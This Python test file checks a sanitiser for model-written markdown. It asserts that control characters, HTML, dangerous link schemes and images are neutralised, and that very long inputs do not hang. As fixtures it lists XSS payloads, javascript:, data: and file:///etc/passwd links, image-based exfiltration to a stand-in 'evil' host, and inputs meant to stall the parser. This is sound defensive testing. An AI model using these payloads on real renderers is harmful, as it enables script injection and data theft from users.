"""What models write is harmless where it is shown, and looks as it was meant."""

from __future__ import annotations

import re
import sys

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from nupic_client import display
from nupic_client.display import printable, printable_lines, safe_markdown

RENDERERS = {
    "with HTML": MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]),
    "as in a browser": MarkdownIt("js-default", {"html": True}),
}
OURS = re.compile(r"</?(?:pre|code)>")


def html_of(text, renderer="with HTML"):
    markdown = RENDERERS[renderer]
    markdown.validateLink = lambda _url: True  # as the renderers that check nothing
    return markdown.render(safe_markdown(text))


@pytest.mark.parametrize("show", [printable, printable_lines])
def test_control_characters_become_symbols(show):
    assert show("a\x1b[31m\x07\x7f\x9b\u202e") == "a␛[31m␇␡\\x9b\\u202e"


def test_lines_stay_where_a_text_has_lines():
    assert printable("a\n\tb") == "a␊␉b"
    assert printable_lines("a\n\tb\r") == "a\n\tb␍"


ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "a\n\n<div onclick='x'>\n\nb",
    "`` ` `` <svg/onload=alert(1)>",
    "```\ncode\n```\n<b>x</b>",
    "    <iframe src=x>",
    "```\n<script>never ended",
    "`a\n\n<script>` b",
    "\\`<img src=x>`",
    "\\<img src=x onerror=alert(1)>",
    "$a<img src=x>$",
    "| a | b |\n|---|---|\n| <script> | `<b>` |",
    "> <!-- x -->\n> <?php ?>",
    "- ```\n  <img>\n  ```",
    "~~~html\n<img>\n~~~",
    "<javascript:alert(1)>",
]


@pytest.mark.parametrize("renderer", RENDERERS)
@pytest.mark.parametrize("text", ATTACKS)
def test_no_html_of_a_model_is_live(text, renderer):
    tokens = RENDERERS[renderer].parse(safe_markdown(text))
    live = [
        token.content
        for each in tokens
        for token in (each, *(each.children or ()))
        if token.type in {"html_block", "html_inline"}
    ]
    assert not re.search(r"<(?!/?(?:pre|code)>)", "".join(live)), live


@pytest.mark.parametrize("text", ATTACKS)
def test_not_even_where_code_is_no_code(text):
    """Programs differ in what they take for code or a formula, so nothing may depend on it."""
    assert not re.search(r"<[a-zA-Z/!?]", OURS.sub("", safe_markdown(text)))


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil/?secret)",
        "\\![x](https://evil/?secret)",
        "![x][r]\n\n[r]: https://evil/",
        "```\n![x](https://evil)\n```",
    ],
)
def test_no_image_is_fetched(text):
    assert "<img" not in html_of(text)
    assert "![" not in safe_markdown(text)


@pytest.mark.parametrize(
    "text",
    [
        "[x](javascript:alert(1))",
        "[x](JavaScript:alert(1))",
        "[x]( \n javascript:alert(1))",
        "[x](javascript\\:alert(1))",
        "[x](&#106;avascript:alert(1))",
        "[x](javascript&colon;alert(1))",
        "[x](\x01javascript:alert(1))",
        "[x](<javascript:alert(1)>)",
        "[x][r]\n\n[r]: javascript:alert(1)",
        "[x](data:text/html,<script>alert(1)</script>)",
        "[x](vbscript:x) [y](file:///etc/passwd) [z](command:x)",
    ],
)
def test_a_link_runs_nothing(text):
    targets = re.findall(r'href="([^"]*)"', html_of(text))
    assert not [target for target in targets if re.match(r"[\x00-\x20]*[a-zA-Z][\w+.-]*:", target)]


@pytest.mark.parametrize(
    "target", ["https://example.com/a?b=1", "http://x", "mailto:a@b.c", "#there", "page.html"]
)
def test_links_to_pages_stay(target):
    assert f'href="{target}"' in html_of(f"[x]({target})")


@pytest.mark.parametrize(
    "text",
    [
        "# Title\n\n* a **b**\n* `code`\n\n1. x\n\n> quote\n",
        "| a | b |\n|---|---|\n| 1 | 2 |\n",
        "```python\nif a < b and c > d:\n    print('x' * 3, x[1:], f'{a!r}')\n```\n",
        "1. first\n\n   ```py\n   a = 1\n   ```\n\n2. second\n",
        "$a < b$ and $$\\sum_i x_i$$ and \\(x\\)",
        "R&D, AT&T, 5 < 6 > 4, a <- b, ¿qué?, 😀, [note]: Warning: mind the gap",
        "",
    ],
)
def test_ordinary_markdown_is_not_changed(text):
    assert safe_markdown(text) == text


def test_html_looks_as_it_was_written():
    assert html_of("Use `<b>` or <i>") == "<p>Use <code>&lt;b&gt;</code> or &lt;i&gt;</p>\n"
    shown = html_of("```html\n<b>hi</b>\n\n&amp;\n```\nafter")
    assert shown.startswith("<pre><code>&#60;b&#62;hi&#60;&#47;b&#62;&#10;&#10;&#38;amp&#59;</code></pre>")
    assert shown.endswith("<p>after</p>\n")


def test_markdown_has_no_control_characters_either():
    assert safe_markdown("a\x1b[31m\r\n`b\x07`\u202e") == "a␛[31m\n`b␇`\\u202e"


def test_a_formula_stays_one():
    assert safe_markdown("$a<b$") == "$a< b$"


HOSTILE = {
    "a fence that never ends its line": lambda n: "~" * n,
    "fences with a backtick": lambda n: ("~" * 1000 + "`\n") * (n // 1002),
    "backticks of all lengths": lambda n: "".join(f"{'`' * k} " for k in range(1, int((2 * n) ** 0.5))),
    "blanks": lambda n: " " * n,
    "lines of blanks": lambda n: "`" + ("\n" + " " * 1000) * (n // 1001),
    "links without an end": lambda n: "](" * (n // 2),
    "formulas without an end": lambda n: "$a\n" * (n // 3),
}


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_no_text_takes_for_ever(text):
    """What is read anew at each of its characters would not be through in hours."""
    assert safe_markdown(text(4_000_000))


def test_backticks_of_many_lengths_are_not_searched_for_one_after_the_other():
    def steps(lengths):
        count = 0

        def trace(frame, event, _value):
            nonlocal count
            count += event == "line" and frame.f_code.co_filename == display.__file__
            return trace

        before = sys.gettrace()
        sys.settrace(trace)
        try:
            safe_markdown("".join(f"{'`' * length} " for length in range(1, lengths)))
        finally:
            sys.settrace(before)
        return count

    assert 400 < steps(400) < 4.4 * steps(100)


@given(st.lists(st.sampled_from([*"`a \n", "``", "```", "<b>", "\n\n", "\n \n"])).map("".join))
def test_a_span_of_code_ends_at_the_next_backticks_of_its_length(text):
    paragraph = r"(?:(?!\n[ \t]*\n).)+?"
    span = re.compile(rf"(?<!`)(?P<ticks>`+)(?!`){paragraph}(?<!`)(?P=ticks)(?!`)", re.DOTALL)
    found = [text[start:end] for (start, _), (_, end) in display._spans(text)]
    assert found == [match[0] for match in span.finditer(text)]


def test_an_open_block_is_ended():
    assert safe_markdown("```python\nprint(1)") == "```python\nprint(1)\n```\n"
    assert safe_markdown("~~~~\nx") == "~~~~\nx\n~~~~\n"


@given(st.text(alphabet="`~<>a/!&;#[]():\\$ \n\tjx", max_size=60))
def test_nothing_of_any_text_is_live(text):
    shown = OURS.sub("", safe_markdown(text))
    assert not re.search(r"<[a-zA-Z/!?]|!\[", shown)


@given(st.text())
def test_it_takes_any_text(text):
    safe_markdown(text)
